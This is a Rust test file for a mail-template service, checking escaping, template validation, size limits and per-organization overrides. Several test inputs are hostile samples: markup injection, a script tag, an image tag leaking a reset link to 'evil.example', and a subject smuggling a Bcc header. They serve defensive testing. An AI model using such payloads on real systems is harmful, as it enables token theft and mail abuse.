//! What the texts of mails may say.

use super::*;
use crate::mail::{MailError, MailTemplate, MailText, builtin, values::names};

async fn preview(post: &Post, kind: MailKind, text: &MailText) -> Result<MailText, MailError> {
    let mut tx = post.arranged.begin().await;
    service::preview(&mut tx, &*post.arranged.clock, PUBLIC_URL, kind, text, Some(post.member)).await
}

/// Field, line and reason of a refusal.
async fn refusal(post: &Post, kind: MailKind, text: MailText) -> String {
    match preview(post, kind, &text).await {
        Err(MailError::Invalid(errors)) => errors.0.first().map(|error| format!("{}: {}", error.field, error.message)).unwrap(),
        other => panic!("{text:?}: {other:?}"),
    }
}

fn with_html(html: &str) -> MailText {
    MailText { subject: "Subject".into(), html: html.into(), text: "{{ link }}".into() }
}

#[tokio::test]
async fn every_built_in_text_can_be_sent_and_uses_what_it_has() {
    let post = Post::new().await;
    for kind in MailKind::ALL {
        let shown = preview(&post, kind, &builtin::text_of(kind)).await.unwrap();
        for part in [&shown.subject, &shown.html, &shown.text] {
            assert!(!part.contains(['{', '[']), "{kind:?}: {part}");
        }
        assert!(shown.html.contains("Hello Ada,") && shown.text.contains("Hello Ada,"), "{kind:?}");
        assert!(shown.html.contains("Test"), "{kind:?}");
        if kind.link().is_some() {
            assert_eq!(shown.html.matches("href=\"https://crm.example.com/app/").count(), 2, "{kind:?}");
            assert!(shown.text.contains("?token=example\n"), "{kind:?}");
        }
    }
}

#[tokio::test]
async fn values_are_never_markup() {
    let post = Post::new().await;
    post.execute("update organizations set name = '<b>\"Tom\" & ''Jerry''</b>'").await;
    post.execute("update users set first_name = '<img src=x>{{ link }}'").await;
    let shown = preview(&post, MailKind::PasswordReset, &builtin::text_of(MailKind::PasswordReset)).await.unwrap();
    assert!(!shown.html.contains("<b>") && !shown.html.contains("<img") && shown.html.contains("&lt;b&gt;"), "{}", shown.html);
    assert!(shown.text.contains("Hello <img src=x>{{ link }},") && shown.subject.contains("\"Tom\" & 'Jerry'"), "{}", shown.text);
}

#[tokio::test]
async fn a_broken_text_is_named_with_its_line() {
    let post = Post::new().await;
    let kind = MailKind::PasswordReset;
    for (html, reason) in [
        ("<p>\n\n{{ link", "html: line 3: a block is not closed by }}"),
        ("{{ link }}\n{% if x", "html: line 2: a block is not closed by %}"),
        ("{{ link }}\n{% for x in y %}", "html: line 2: `for` cannot be used"),
        ("{{ link }}\n{{ lnk }}", "html: line 2: `lnk` is not known; there are email, expiresAt"),
        ("{{ link }}\n{{ link | upper }}", "html: line 2: "),
        ("{{ link }}\n{% if link %}", "html: line 2: "),
        ("{{ link }}\n{% endif %}", "html: line 2: "),
        ("{{ link }}\n<script>", "html: line 2: <script> cannot be used in a mail"),
        ("<img src=\"https://evil.example/?{{ link }}\">", "html: line 1: the link can only be"),
        ("<p>Hello</p>", "html: line 1: the link is missing"),
        ("{{ link | default('x') == 'y' }}", "html: line 1: the link is missing"),
        ("{{ link }}{{ inviter }}", "html: line 1: `inviter` is not known"),
    ] {
        let told = refusal(&post, kind, with_html(html)).await;
        assert!(told.starts_with(reason), "{html:?}: {told}");
    }
    let good = with_html("{{ link }}");
    assert!(
        refusal(&post, kind, MailText { text: "no link".into(), ..good.clone() }).await.starts_with("text: line 1: the link is missing")
    );
    assert!(refusal(&post, kind, MailText { subject: "{{ link }}".into(), ..good.clone() }).await.starts_with("subject: line 1: must not"));
    assert!(refusal(&post, kind, MailText { subject: "a\r\nBcc: x".into(), ..good.clone() }).await.starts_with("subject: is one line"));
    assert!(refusal(&post, kind, MailText { subject: "x".repeat(201), ..good.clone() }).await.starts_with("subject: has 1 to 200"));
    assert!(refusal(&post, kind, MailText { text: String::new(), ..good }).await.starts_with("text: has 1 to 50000"));
}

#[tokio::test]
async fn a_text_cannot_become_endless() {
    let post = Post::new().await;
    post.execute("update organizations set name = repeat('x', 200)").await;
    let told = refusal(&post, MailKind::Test, with_html(&"{{organization}}".repeat(6_250)).clone()).await;
    assert!(told.contains("longer than 1048576 bytes") || told.contains("takes too long"), "{told}");
    let told = refusal(&post, MailKind::Test, with_html(&"{{ organization ~ organization }}".repeat(2))).await;
    assert!(told.contains("`~` cannot be used"), "{told}");
}

#[tokio::test]
async fn an_organization_has_a_text_of_its_own_until_it_gives_it_up() {
    let post = Post::new().await;
    let all = async |post: &Post| -> Vec<MailTemplate> {
        let mut tx = post.arranged.begin().await;
        service::templates(&mut tx).await.unwrap()
    };
    assert!(all(&post).await.iter().all(|template| template.changed_at.is_none()));
    let mine = MailText { subject: "Mine".into(), html: "<p>{{ link }}</p>".into(), text: "{{ link }}".into() };
    for _ in 0..2 {
        let mut tx = post.arranged.begin().await;
        let kind = MailKind::Invitation;
        service::write_template(&mut tx, &*post.arranged.clock, PUBLIC_URL, kind, mine.clone()).await.unwrap();
        tx.commit().await.unwrap();
    }
    let changed: Vec<_> = all(&post).await.into_iter().filter(|template| template.changed_at.is_some()).collect();
    assert_eq!((changed.len(), changed[0].kind, &changed[0].text), (1, MailKind::Invitation, &mine));
    assert_eq!(changed[0].changed_at, Some(post.arranged.clock.now()));
    let mut tx = post.arranged.db.tenant(post.arranged.other).await.unwrap();
    assert!(service::template(&mut tx, MailKind::Invitation).await.unwrap().changed_at.is_none());
    tx.rollback().await.unwrap();
    let mut tx = post.arranged.begin().await;
    assert!(service::reset_template(&mut tx, MailKind::Invitation).await.unwrap());
    assert!(!service::reset_template(&mut tx, MailKind::Invitation).await.unwrap());
    assert_eq!(service::template(&mut tx, MailKind::Invitation).await.unwrap().text, builtin::text_of(MailKind::Invitation));
}

#[test]
fn what_a_text_can_show_depends_on_the_kind() {
    assert_eq!(names(MailKind::Test), ["email", "organization", "recipient", "when"]);
    assert_eq!(names(MailKind::Invitation), ["email", "expiresAt", "expiresIn", "inviter", "link", "organization", "recipient", "when"]);
    for kind in MailKind::ALL {
        assert_eq!(MailKind::from_word(kind.as_str()), Some(kind));
    }
}
